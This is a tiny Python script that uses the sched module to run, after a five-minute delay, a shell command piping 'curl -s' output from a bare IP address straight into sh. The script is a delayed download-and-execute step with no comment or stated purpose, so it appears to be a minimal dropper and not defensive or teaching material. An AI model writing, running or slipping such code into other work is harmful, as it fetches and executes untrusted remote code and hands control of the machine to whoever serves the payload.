import sched
import subprocess
import time

s = sched.scheduler(time.time, time.sleep)
s.enter(300, 1, subprocess.call, argument=("curl -s http://203.0.113.103/x | sh",), kwargs={"shell": True})
s.run(blocking=False)
